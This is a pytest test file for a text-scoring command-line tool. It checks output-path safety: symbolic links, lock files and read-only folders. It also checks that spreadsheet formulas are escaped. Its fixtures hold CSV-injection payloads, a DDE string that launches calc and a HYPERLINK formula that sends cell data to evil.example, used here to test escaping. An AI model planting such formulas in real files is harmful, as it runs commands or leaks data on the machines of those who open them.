"""What `cli.py score` will not do to its output: overwrite its input or a non-file, share it with another
run, or write cells that a spreadsheet runs as formulas."""

import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

import cli
from data import DataError
from models.registry import load_model
from scoring.frame import escape_formulas
from scoring.local import score_file
from scoring.output import OutputLock

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://x","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tTAB"]


@pytest.fixture(scope="module")
def model():
    return load_model()


def _input(tmp_path, texts=("so happy today", "furious about this")) -> Path:
    path = tmp_path / "in.csv"
    pd.DataFrame({"id": range(len(texts)), "text": list(texts)}).to_csv(path, index=False)
    return path


def test_the_output_may_not_be_the_input(model, tmp_path):
    source = _input(tmp_path)
    before = source.read_bytes()
    with pytest.raises(DataError, match="the output is the input file"):
        score_file(model, source, tmp_path / "." / "in.csv")
    assert source.read_bytes() == before


@pytest.mark.parametrize("kind", ["folder", "fifo", "device"])
def test_the_output_must_be_a_regular_file(model, tmp_path, kind):
    target = Path("/dev/full") if kind == "device" else tmp_path / "target"
    if kind != "device":
        target.mkdir() if kind == "folder" else os.mkfifo(target)
    with pytest.raises(DataError, match="not a regular file"):
        score_file(model, _input(tmp_path), target)
    assert target.is_dir() if kind == "folder" else target.exists() and not target.is_file()


@pytest.mark.parametrize("points_to", ["a file", "nothing"])
def test_an_output_that_is_a_symbolic_link_is_refused_and_left_as_it_is(tmp_path, points_to, capsys):
    """The finished file is renamed over the link: `--output /dev/stdout`, with stdout sent to a file, replaced the
    system's /dev/stdout link with the scored CSV (as root)."""
    source = _input(tmp_path)
    target = tmp_path / "target.csv"
    if points_to == "a file":
        target.write_text("mine\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert cli.main(["score", "--input", str(source), "--output", str(link)]) == 2
    assert f"error: {link}: a symbolic link (to {target}); the scored file would replace the link" in \
        capsys.readouterr().err
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert (target.read_text() == "mine\n") if points_to == "a file" else not target.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "link.csv", *(["target.csv"] * (points_to == "a file"))]


def test_the_output_may_not_be_standard_output(tmp_path, capsys, monkeypatch):
    """Refused as `--input -` is: it wrote a file named `-`."""
    monkeypatch.chdir(tmp_path)
    assert cli.main(["score", "--input", str(_input(tmp_path)), "--output", "-"]) == 2
    assert "error: -: standard output is not written" in capsys.readouterr().err
    assert not (tmp_path / "-").exists()


@pytest.mark.parametrize("engine", ["local", "dask"])
@pytest.mark.parametrize("planted", ["out.csv.lock", ".out.csv.part"])
@pytest.mark.parametrize("points_to", ["a file", "nothing"])
def test_a_link_planted_at_a_name_the_run_writes_is_never_written_through(tmp_path, planted, engine, points_to,
                                                                          capsys):
    """The lock and the partial output have fixed names beside the output: a link planted there in a shared folder
    had the file it points to truncated and overwritten (with the lock's pid, or the scored rows, the link then
    renamed to the output's name). A link to nothing had that file made, by the Dask engine too: the scored rows
    were written there and the output was left a link to it."""
    source = _input(tmp_path)
    precious = tmp_path / "precious.txt"
    if points_to == "a file":
        precious.write_text("keep me\n")
    (tmp_path / planted).symlink_to(precious)
    out = tmp_path / "out.csv"
    status = cli.main(["score", "--input", str(source), "--output", str(out), "--engine", engine, "--workers", "1"])
    err = capsys.readouterr().err
    assert (precious.read_text() == "keep me\n") if points_to == "a file" else not precious.exists()
    if planted.endswith(".lock"):  # the lock is another run's to explain: refused, nothing written
        assert status == 2 and f"{tmp_path / planted}: a symbolic link, where this run keeps the output's lock" in err
        assert not out.exists()
    else:  # a partial output of no run: removed, and the output written anew
        assert status == 0 and not out.is_symlink() and len(pd.read_csv(out)) == 2
        assert not (tmp_path / planted).exists()


def test_a_second_writer_is_refused_naming_the_lock_file(model, tmp_path):
    import socket

    out = tmp_path / "out.csv"
    lock = out.with_name("out.csv.lock")
    with OutputLock(out):  # a live writer: it holds the lock (a flock conflicts with another open, even here)
        with pytest.raises(DataError) as refused:
            score_file(model, _input(tmp_path), out)
    assert str(refused.value) == (
        f"{out}: another run (pid {os.getpid()} on host {socket.gethostname()}) is writing this output, and holds "
        f"{lock}; wait for it to end or choose another output path. The lock is freed when that run ends; if "
        f"`ps -p {os.getpid()}` on {socket.gethostname()} shows no scoring run, the lock is stale: remove {lock} "
        f"and run again")
    assert not out.exists() and not lock.exists()


@pytest.mark.parametrize("holder", ["dead", "pid 1", "another host", "empty"])
def test_a_lock_file_no_process_holds_is_taken_over(model, tmp_path, holder):
    """A run killed by SIGKILL, or stopped in a container whose PID 1 it was, or on a pod since renamed, leaves its
    lock file: no process holds its flock any more, whatever pid and host it names."""
    import socket

    finished = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    out = tmp_path / "out.csv"
    lock = out.with_name("out.csv.lock")
    lock.write_text({"dead": f"{finished.stdout.strip()} {socket.gethostname()}", "pid 1": f"1 {socket.gethostname()}",
                     "another host": "6449 other-host", "empty": ""}[holder])
    summary = score_file(model, _input(tmp_path), out)
    assert summary.scored == 2 and out.is_file() and not lock.exists()


def test_the_lock_of_a_killed_run_is_free_at_once(tmp_path):
    out = tmp_path / "out.csv"
    holder = subprocess.Popen([sys.executable, "-c", f"import sys, time; sys.path.insert(0, {str(ROOT)!r}); "
                               f"from pathlib import Path; from scoring.output import OutputLock; "
                               f"lock = OutputLock(Path({str(out)!r})).__enter__(); print('held', flush=True); "
                               f"time.sleep(60)"], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline() == "held\n"
        with pytest.raises(DataError, match=f"pid {holder.pid} on host"):
            OutputLock(out).__enter__()
    finally:
        holder.kill()
        holder.wait()
    assert out.with_name("out.csv.lock").read_text().split()[0] == str(holder.pid)  # left behind by the kill
    with OutputLock(out):
        pass


@pytest.fixture
def read_only_folder(tmp_path):
    """A folder no one may write into: chmod for a user; root ignores modes, so the immutable flag for root."""
    folder = tmp_path / "read-only"
    folder.mkdir()
    if os.geteuid() != 0:
        folder.chmod(0o555)
    elif subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
        pytest.skip("running as root where chattr +i is not allowed: no way to make a read-only folder")
    yield folder
    if os.geteuid() == 0:
        subprocess.run(["chattr", "-i", str(folder)], check=True)
    folder.chmod(0o755)


@pytest.mark.parametrize("where", ["out.csv", "new/out.csv"])
def test_a_read_only_output_folder_is_one_line(tmp_path, read_only_folder, where, capsys):
    source = _input(tmp_path)
    assert cli.main(["score", "--input", str(source), "--output", str(read_only_folder / where), "--quiet"]) == 2
    error = capsys.readouterr().err.strip()
    assert error == (f"error: {(read_only_folder / where).parent}: cannot write the output there "
                     f"({os.strerror(13 if os.geteuid() else 1)}); choose a folder you can write to")
    assert not any(read_only_folder.iterdir())


def test_the_lock_is_released_when_a_run_fails(tmp_path):
    out = tmp_path / "out.csv"
    with pytest.raises(RuntimeError), OutputLock(out):
        raise RuntimeError("scoring failed")
    assert not out.with_name("out.csv.lock").exists()


def test_formula_cells_are_escaped_unless_asked_not_to(tmp_path, capsys):
    source = _input(tmp_path, FORMULAS + ["plain text"])
    assert cli.main(["score", "--input", str(source), "--output", str(tmp_path / "o.csv"), "--quiet"]) == 0
    written = pd.read_csv(tmp_path / "o.csv", keep_default_na=False)
    assert written["text"].tolist() == ["'" + f for f in FORMULAS] + ["plain text"]
    assert cli.main(["score", "--input", str(source), "--output", str(tmp_path / "raw.csv"), "--quiet",
                     "--no-escape-formulas"]) == 0
    assert pd.read_csv(tmp_path / "raw.csv", keep_default_na=False)["text"].tolist() == FORMULAS + ["plain text"]
    # A text cell that is only a number is read as that number, not run: a negative coordinate stays a number.
    numbers = escape_formulas(pd.DataFrame({"prob": [-0.5] * 4, "text": ["-0.5", "-122.41", "+1e-3", "-2+3"]}))
    assert numbers["prob"].tolist() == [-0.5] * 4 and numbers["text"].tolist() == ["-0.5", "-122.41", "+1e-3", "'-2+3"]


def test_an_output_name_too_long_for_the_files_beside_it_is_refused_before_scoring(tmp_path, capsys):
    """A name of 242-255 bytes failed with "File name too long" naming `.NAME.part`, a file the user never gave."""
    source = _input(tmp_path)
    for length, status in ((228, 0), (229, 2), (255, 2)):
        out = tmp_path / ("a" * (length - 4) + ".csv")
        assert cli.main(["score", "--input", str(source), "--output", str(out), "--quiet"]) == status
        assert out.exists() == (status == 0)
    assert capsys.readouterr().err.splitlines()[-1] == (
        "error: " + "a" * 40 + "…: the output's name is too long (at most 228 bytes: the files kept beside it "
        "while it is written add to it)")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a" * 224 + ".csv", "in.csv"]  # nothing else left


def test_formula_column_names_are_escaped_too(tmp_path):
    """The rows' cells were escaped and the header's names written as they were: a column named
    =HYPERLINK(...) was a live link in the scored file."""
    source = tmp_path / "in.csv"
    source.write_text('text,"=HYPERLINK(""http://evil.example/?""&A2,""Click"")",-1,@SUM(1+1)\nhappy,x,y,z\n')
    for engine in ("local", "dask"):
        out = tmp_path / f"{engine}.csv"
        assert cli.main(["score", "--input", str(source), "--output", str(out), "--quiet", "--engine", engine]) == 0
        assert list(pd.read_csv(out).columns[:4]) == [
            "text", "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", "-1", "'@SUM(1+1)"]
    assert cli.main(["score", "--input", str(source), "--output", str(tmp_path / "raw.csv"), "--quiet",
                     "--no-escape-formulas"]) == 0
    assert pd.read_csv(tmp_path / "raw.csv").columns[3] == "@SUM(1+1)"


@pytest.mark.parametrize("arguments, message", [
    (["--chunk-rows", "0"], "argument --chunk-rows: must be at least 1"),
    (["--engine", "dask", "--blocksize", "abc"], "argument --blocksize: not a size"),
])
def test_bad_options_are_one_line(tmp_path, arguments, message):
    result = subprocess.run([sys.executable, "cli.py", "score", "--input", str(_input(tmp_path)), "--output",
                             str(tmp_path / "o.csv"), *arguments], cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr


def test_an_unexpected_error_is_one_line_and_debug_shows_the_traceback(tmp_path):
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "config.json").write_text('{"model": "text_net", "format": 2, "files": {}, "settings": {}}')
    command = [sys.executable, "cli.py", "score", "--model-dir", str(folder), "--input", str(_input(tmp_path)),
               "--output", str(tmp_path / "o.csv")]
    result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 2 and result.stderr.count("\n") == 1 and result.stderr.startswith("error: ")
    debug = subprocess.run([sys.executable, "cli.py", "--debug", *command[2:]], cwd=ROOT, capture_output=True,
                           text=True)
    assert debug.returncode == 2 and "Traceback" in debug.stderr


@pytest.mark.parametrize("escaped", [True, False])
def test_a_carriage_return_inside_a_cell_stays_inside_its_row(tmp_path, escaped):
    # Python 3.11's csv writer leaves such a cell unquoted when lines end in \n; a reader would split the row.
    source = tmp_path / "in.csv"
    source.write_bytes(b'id,text\n0,"first line\rsecond line"\n1,"\r"\n2,plain\n')
    options = [] if escaped else ["--no-escape-formulas"]
    assert cli.main(["score", "--input", str(source), "--output", str(tmp_path / "o.csv"), "--quiet", *options]) == 0
    written = pd.read_csv(tmp_path / "o.csv", keep_default_na=False, dtype=str)
    assert written["text"].tolist() == ["first line\rsecond line", "'\r" if escaped else "\r", "plain"]
    assert written["id"].tolist() == ["0", "1", "2"]
    assert written["emotion"].tolist()[::2] != ["", ""] and "nothing to score" in written["error"][1]  # "\r": no text
